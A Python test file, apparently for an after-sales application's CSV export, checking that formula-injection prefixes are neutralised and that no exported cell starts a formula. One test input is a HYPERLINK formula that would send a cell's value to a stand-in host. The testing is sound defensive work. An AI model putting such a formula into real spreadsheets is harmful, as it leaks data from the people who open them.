import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from aftersales.core.exports import csv_rows, safe_cell


def test_formulas_become_text_and_numbers_stay_numbers():
    assert safe_cell('=HYPERLINK("http://x/?"&A1,"x")').startswith("'=")
    for start in ("+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(start) == "'" + start
    assert safe_cell(-5) == -5 and safe_cell(None) == "" and safe_cell("张三") == "张三"


@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_no_cell_of_an_export_starts_a_formula(cells):
    text = "".join(csv_rows(["a"] * len(cells), [cells])).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
